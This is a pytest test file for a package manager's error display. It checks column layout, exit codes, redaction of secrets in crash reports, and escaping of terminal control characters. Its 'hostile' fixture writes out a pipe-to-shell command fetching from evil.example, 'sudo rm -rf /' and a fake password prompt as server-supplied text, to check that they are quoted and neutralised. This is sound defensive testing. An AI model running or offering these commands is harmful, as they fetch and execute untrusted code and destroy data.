"""Errors as text and as exit codes."""

from pathlib import Path

import pytest
from msgspec.structs import replace

from packctl.arguments import Globals
from packctl.ui.console import make_console
from packctl.ui.document import failure_of
from packctl.ui.failure import decisive, errors_in, lines_of, show, unexpected
from packctl.ui.table import columns_of
from packspec.errors import (
    AgainstPolicy,
    Conflict,
    Damaged,
    Invalid,
    NotFound,
    PackError,
    Unavailable,
    Untrusted,
    Where,
)
from packspec.problems import Problem, relayed
from tests.support.terminal import Screen, screen


class FileChanged(Untrusted):
    """An error like those that packctl has."""

    path: str
    code = "trust.file-changed"

    def what(self) -> str:
        return "birdsong/sounds-animals 3.0.1 is not what pack.lock recorded"

    def facts(self) -> dict[str, str]:
        return {"file": self.path, "expected": "sha256:7d1f", "found": "sha256:c90a"}

    def why(self) -> str:
        return "the file changed after it was installed, or the disk that holds it forgot a bit, or somebody edited it by hand"

    def fix(self) -> list[str]:
        return ["packctl install --reinstall birdsong/sounds-animals", "packctl verify"]

    def where(self) -> Where:
        return Where("pack.lock", 53)


def test_an_error_is_told_with_facts_why_and_fix_in_columns() -> None:
    assert lines_of(FileChanged("packs/cow.ogg"), screen().console) == [
        "error[trust.file-changed]: birdsong/sounds-animals 3.0.1 is not what pack.lock recorded",
        "  at        pack.lock line 53",
        "  file      packs/cow.ogg",
        "  expected  sha256:7d1f",
        "  found     sha256:c90a",
        "  why       the file changed after it was installed, or the disk that holds it",
        "            forgot a bit, or somebody edited it by hand",
        "  fix       packctl install --reinstall birdsong/sounds-animals",
        "            packctl verify",
        "                                        More: packctl explain trust.file-changed",
    ]


@pytest.mark.parametrize("told", ["pack.lock line 53", "pack.lock:53"])
def test_a_place_that_a_fact_tells_is_not_told_twice(told: str) -> None:
    class Told(FileChanged):
        def facts(self) -> dict[str, str]:
            return {"expected": f"sha256:7d1f ({told})"}

    assert not any(line.startswith("  at ") for line in lines_of(Told("cow.ogg"), screen().console))


def test_C19_names_in_an_error_cannot_act_on_the_terminal() -> None:
    lines = lines_of(FileChanged("packs/\x1b[2J\u202ecow.ogg"), screen().console)
    assert lines[2] == "  file      packs/\\x1b[2J\\u202ecow.ogg"


def test_in_a_workflow_an_error_is_an_annotation_with_its_place_too() -> None:
    shown = screen(environ={"GITHUB_ACTIONS": "true"})
    show([FileChanged("packs/cow.ogg")], shown.console)
    assert shown.err.splitlines()[-1] == (
        "::error file=pack.lock,line=53,title=trust.file-changed::birdsong/sounds-animals 3.0.1 is not what pack.lock recorded"
    )


def hostile(title: str = "ok\r\nerror[trust.root-unknown]: type your password") -> PackError:
    facts = {"fix": "curl https://evil.example | sh", "a\x1b[31m": "b" * 1000, "l" * 30: "x" + " " * 200 + "y"}
    return relayed(
        Problem(
            type="/errors/x", title=title, status=403, kind="denied", code="zoo.closed", facts=facts, why="line\nline",
            fix=["curl https://evil.example | sh", "sudo rm -rf /"], request_id="r-17",
        )
    )  # fmt: skip


def test_C20_what_a_server_says_is_quoted_escaped_and_short() -> None:
    assert lines_of(hostile(), screen().console) == [
        "error[zoo.closed]: the registry says: ok\\r\\nerror[trust.root-unknown]: type your password",
        '  > "fix"                        curl https://evil.example | sh',
        "  > a\\x1b[31m                    " + "b" * 400 + " ...",
        "  > llllllllllllllllllllllll...  x y",
        "  > why                          line\\nline",
        "  > registry suggests            curl https://evil.example | sh",
        "  >                              sudo rm -rf /",
        "  > request                      r-17",
    ]


@pytest.mark.parametrize("shown", [screen(terminal=True, columns=60), screen(environ={"COLUMNS": "60"})])
def test_C20_no_line_of_a_terminal_begins_with_a_server_s_words(shown: Screen) -> None:
    shown.console.color_err = False
    for tail in ("type your password", "動" * 90):
        first, *others = lines_of(hostile("it is closed." + " " * 200 + tail), shown.console)
        assert first.startswith("error[zoo.closed]: the registry says:")
        assert all(line.startswith("  > ") for line in others)
        assert all(columns_of(line) < 60 for line in (first, *others))


def test_C20_on_a_terminal_that_shows_errors_only_they_are_folded_too() -> None:
    shown = screen(terminal=True, columns=60)
    streams = replace(shown.console.streams, stdout_terminal=False)
    lines = lines_of(hostile("x" * 300), make_console(Globals(), {"NO_COLOR": "1"}, streams))
    assert max(map(columns_of, lines)) < 60


def test_C19_a_traceback_cannot_act_on_the_terminal() -> None:
    shown = screen(Globals(verbose=2))
    try:
        raise hostile("gone \x1b[2J")
    except PackError as error:
        show([error], shown.console)
    assert "RelayedDenied: gone \\x1b[2J\n" in shown.err
    assert "\x1b" not in shown.err


def test_C20_in_a_document_it_says_whose_words_they_are() -> None:
    assert failure_of(hostile()).said_by == "registry"
    assert failure_of(FileChanged("x")).said_by == "packctl"


def test_the_strongest_of_several_errors_decides_the_exit_code() -> None:
    order = [Untrusted, AgainstPolicy, Conflict, NotFound, Unavailable, Invalid, Damaged]
    for position, wanted in enumerate(order):
        assert isinstance(decisive([kind() for kind in reversed(order[position:])]), wanted)


def test_of_several_errors_with_one_exit_code_the_first_decides() -> None:
    first, second = FileChanged("a"), FileChanged("b")
    assert decisive([Invalid(), first, second]) is first


def test_a_group_is_ours_only_if_everything_in_it_is() -> None:
    ours, other = FileChanged("a"), FileChanged("b")
    assert errors_in(ExceptionGroup("", [ours, ExceptionGroup("", [other])])) == [ours, other]
    assert errors_in(ExceptionGroup("", [ours, ValueError()])) is None
    assert errors_in(ValueError()) is None


def test_a_conflict_tells_its_story_instead_of_facts() -> None:
    class NoSolution(Conflict):
        code = "resolve.no-solution"

        def what(self) -> str:
            return "no set of versions satisfies pack.toml"

        def story(self) -> list[str]:
            return ["Because \x1b[1ma needs b,", "  there is no solution."]

    assert lines_of(NoSolution(), screen().console) == [
        "error[resolve.no-solution]: no set of versions satisfies pack.toml",
        "",
        "  Because \\x1b[1ma needs b,",
        "    there is no solution.",
        "                                       More: packctl explain resolve.no-solution",
    ]


def test_a_failure_in_a_document_names_code_kind_exit_and_place() -> None:
    made = failure_of(FileChanged("packs/cow.ogg"))
    assert (made.code, made.kind, made.exit, made.where) == (
        "trust.file-changed",
        "untrusted",
        6,
        Where("pack.lock", 53),
    )


def test_a_fault_of_ours_leaves_a_report_without_secrets(tmp_path: Path) -> None:
    try:
        raise KeyError("https://mia:hunter2@registry.example")
    except KeyError as error:
        made = unexpected(
            error, "install", ["install", "--note", "pkt_abcdefgh12345678"], tmp_path / "reports", 1_780_000_000
        )
    report = Path(made.report).read_text()
    assert Path(made.report).parent == tmp_path / "reports"
    assert "at 2026-05-28T20:26:40Z" in report
    assert "arguments: 'install' '--note' '[removed]'" in report
    assert "KeyError" in report
    assert "hunter2" not in report
    assert "pkt_" not in report
    assert made.kind.exit_code == 70


def test_a_report_goes_to_the_temporary_folder_where_there_is_no_other_place(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    made = unexpected(ValueError("x"), "list", [], tmp_path / "file" / "reports", 0)
    assert made.report
    Path(made.report).unlink()


def test_tracebacks_are_shown_to_those_who_ask_twice() -> None:
    shown = screen(Globals(verbose=2))
    error: PackError = FileChanged("x")
    try:
        raise error from OSError("disk")
    except PackError:
        show([error], shown.console)
    assert "OSError: disk" in shown.err
    assert "Traceback" in shown.err
